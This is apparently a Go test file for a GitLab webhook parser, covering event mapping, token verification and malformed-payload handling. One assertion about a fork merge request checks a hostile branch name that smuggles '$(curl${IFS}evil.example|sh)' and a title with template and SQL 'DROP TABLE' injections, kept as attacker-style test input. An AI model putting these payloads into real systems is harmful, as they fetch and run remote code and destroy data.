package gitlab

import (
	"errors"
	"net/http"
	"strings"
	"testing"

	"github.com/codebridge/codebridge/events"
	"github.com/codebridge/codebridge/events/webhook"
	"github.com/codebridge/codebridge/events/webhook/webhooktest"
)

const dir = "../../testdata/webhooks/gitlab"

// header builds GitLab's headers; idem goes in Idempotency-Key, uuid in
// X-Gitlab-Event-UUID (either may be empty).
func header(event, idem, uuid string) http.Header {
	h := http.Header{}
	h.Set(HeaderEvent, event)
	if idem != "" {
		h.Set(HeaderIdempotencyKey, idem)
	}
	if uuid != "" {
		h.Set(HeaderEventUUID, uuid)
	}
	return h
}

func TestGolden(t *testing.T) {
	const mr = "Merge Request Hook"
	webhooktest.Golden(t, dir, []webhooktest.Case{
		{Name: "push", Header: header("Push Hook", "f8a3c1e0-2b4d-4e6f-8a1c-3e5f7a9b1d20", "ignored-when-idempotency-key-is-set"), Types: []string{events.ReferenceUpdated}},
		{Name: "tag_push", Header: header("Tag Push Hook", "", "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d"), Types: []string{events.ReferenceCreated}},
		{Name: "merge_request.open", Header: header(mr, "11111111-aaaa-4bbb-8ccc-000000000001", ""), Types: []string{events.PullRequestCreated}},
		{Name: "merge_request.open-from-fork", Header: header(mr, "11111111-aaaa-4bbb-8ccc-000000000002", ""), Types: []string{events.PullRequestCreated}},
		{Name: "merge_request.update-with-new-commits", Header: header(mr, "11111111-aaaa-4bbb-8ccc-000000000003", ""), Types: []string{events.PullRequestSourceBranchUpdated}},
		{Name: "merge_request.update-title", Header: header(mr, "11111111-aaaa-4bbb-8ccc-000000000004", ""), Err: webhook.ErrIgnored},
		{Name: "merge_request.close", Header: header(mr, "11111111-aaaa-4bbb-8ccc-000000000005", ""), Types: []string{events.PullRequestStatusChanged}},
		{Name: "merge_request.merge", Header: header(mr, "11111111-aaaa-4bbb-8ccc-000000000006", ""), Types: []string{events.PullRequestMergeStatusUpdated}},
		{Name: "merge_request.approved", Header: header(mr, "11111111-aaaa-4bbb-8ccc-000000000007", ""), Types: []string{events.PullRequestApprovalStateChanged}},
		{Name: "merge_request.unapproved", Header: header(mr, "11111111-aaaa-4bbb-8ccc-000000000008", ""), Types: []string{events.PullRequestApprovalStateChanged}},
		{Name: "note.commit", Header: header("Note Hook", "22222222-bbbb-4ccc-8ddd-000000000001", ""), Types: []string{events.CommentOnCommitCreated}},
		{Name: "note.merge_request", Header: header("Note Hook", "", ""), Types: []string{events.CommentOnPullRequestCreated}},
		{Name: "note.issue", Header: header("Note Hook", "22222222-bbbb-4ccc-8ddd-000000000003", ""), Err: webhook.ErrIgnored},
	}, Parse)
}

func TestVerify(t *testing.T) {
	tests := []struct {
		name    string
		token   string
		secrets []string
		ok      bool
	}{
		{"token matches", "s3cret-token", []string{"s3cret-token"}, true},
		{"rotation", "new-token", []string{"old-token", "new-token"}, true},
		{"wrong token", "guess", []string{"s3cret-token"}, false},
		{"prefix of the token", "s3cret", []string{"s3cret-token"}, false},
		{"token with more", "s3cret-token2", []string{"s3cret-token"}, false},
		{"no token", "", []string{"s3cret-token"}, false},
		{"no secrets", "s3cret-token", nil, false},
		{"empty secret never matches", "", []string{""}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := http.Header{}
			if tt.token != "" {
				h.Set(HeaderToken, tt.token)
			}
			err := Verify(h, []byte(`{}`), tt.secrets)
			if tt.ok != (err == nil) {
				t.Fatalf("Verify: %v, want ok=%v", err, tt.ok)
			}
			if err != nil {
				if !errors.Is(err, webhook.ErrUnauthorized) {
					t.Fatalf("error %v is not ErrUnauthorized", err)
				}
				for _, s := range append(tt.secrets, tt.token) {
					if s != "" && strings.Contains(err.Error(), s) {
						t.Errorf("error %q reveals a token", err)
					}
				}
			}
		})
	}
}

func TestParseDetails(t *testing.T) {
	evs, err := Parse(header("Push Hook", "", "u1"), webhooktest.Read(t, dir, "push"))
	if err != nil {
		t.Fatal(err)
	}
	d, _ := events.DecodeData(evs[0])
	want := events.ReferenceData{
		Repository:        events.Repository{Name: "diaspora", FullName: "mike/diaspora", CloneURL: "http://example.com/mike/diaspora.git", Provider: "gitlab"},
		ReferenceFullName: "refs/heads/master", ReferenceName: "master", ReferenceType: "branch",
		CommitID: "da1560886d4f094c3e6c9ef40349f7d38b5d27d7", OldCommitID: "95790bf891e76fee5e1747ab589903a6a1f80f22",
		Pusher: "jsmith",
	}
	if got := *d.(*events.ReferenceData); got != want {
		t.Errorf("push data\n got %+v\nwant %+v", got, want)
	}
	if evs[0].ID() != "u1" || evs[0].Source() != "http://example.com/mike/diaspora" {
		t.Errorf("id %q source %q", evs[0].ID(), evs[0].Source())
	}

	// Without Idempotency-Key or X-Gitlab-Event-UUID the id is a digest of
	// the body: the same on a redelivery, different for another body.
	a, _ := Parse(header("Note Hook", "", ""), webhooktest.Read(t, dir, "note.merge_request"))
	b, _ := Parse(header("Note Hook", "", ""), webhooktest.Read(t, dir, "note.merge_request"))
	c, _ := Parse(header("Note Hook", "", ""), webhooktest.Read(t, dir, "note.commit"))
	if a[0].ID() != b[0].ID() || a[0].ID() == c[0].ID() || !strings.HasPrefix(a[0].ID(), "sha256-") {
		t.Errorf("ids %q %q %q", a[0].ID(), b[0].ID(), c[0].ID())
	}

	evs, err = Parse(header("Merge Request Hook", "k", ""), webhooktest.Read(t, dir, "merge_request.open-from-fork"))
	if err != nil {
		t.Fatal(err)
	}
	d, _ = events.DecodeData(evs[0])
	pd := d.(*events.PullRequestData)
	if !pd.Fork || pd.SourceReference != "refs/heads/feature/$(curl${IFS}evil.example|sh)" || pd.Title != `{{ event.data }} "; DROP TABLE builds; --` {
		t.Errorf("fork MR data %+v", pd)
	}
	evs, err = Parse(header("Merge Request Hook", "k", ""), webhooktest.Read(t, dir, "merge_request.open"))
	if err != nil {
		t.Fatal(err)
	}
	d, _ = events.DecodeData(evs[0])
	if pd := d.(*events.PullRequestData); pd.Fork || pd.Author != "root" || pd.SourceCommit != "da1560886d4f094c3e6c9ef40349f7d38b5d27d7" || evs[0].Subject() != "1" {
		t.Errorf("MR data %+v", pd)
	}
}

func TestParseRefuses(t *testing.T) {
	webhooktest.Refuses(t, Parse, []webhooktest.Refusal{
		{Name: "no event header", Header: http.Header{}, Body: `{}`, Want: webhook.ErrMalformed},
		{Name: "not JSON", Header: header("Push Hook", "k", ""), Body: `[`, Want: webhook.ErrMalformed},
		{Name: "iid not a number", Header: header("Merge Request Hook", "k", ""), Body: `{"object_attributes":{"iid":"one"}}`, Want: webhook.ErrMalformed},
		{Name: "push without project", Header: header("Push Hook", "k", ""), Body: `{"ref":"refs/heads/main","before":"a","after":"b"}`, Want: webhook.ErrMalformed},
		{Name: "MR without last commit", Header: header("Merge Request Hook", "k", ""), Body: `{"project":{"web_url":"http://x/a/b","git_http_url":"http://x/a/b.git","path_with_namespace":"a/b"},"object_attributes":{"iid":1,"action":"open","source_branch":"f","target_branch":"main"}}`, Want: webhook.ErrMalformed},
		{Name: "individual approval", Header: header("Merge Request Hook", "k", ""), Body: `{"object_attributes":{"action":"approval"}}`, Want: webhook.ErrIgnored},
		{Name: "note edited", Header: header("Note Hook", "k", ""), Body: `{"object_attributes":{"action":"update","noteable_type":"MergeRequest"}}`, Want: webhook.ErrIgnored},
		{Name: "system note", Header: header("Note Hook", "k", ""), Body: `{"object_attributes":{"system":true,"noteable_type":"MergeRequest"}}`, Want: webhook.ErrIgnored},
		{Name: "note on a snippet", Header: header("Note Hook", "k", ""), Body: `{"object_attributes":{"noteable_type":"Snippet"}}`, Want: webhook.ErrIgnored},
		{Name: "MR note without merge_request", Header: header("Note Hook", "k", ""), Body: `{"object_attributes":{"noteable_type":"MergeRequest"}}`, Want: webhook.ErrMalformed},
		{Name: "pipeline", Header: header("Pipeline Hook", "k", ""), Body: `{}`, Want: webhook.ErrIgnored},
	})
}
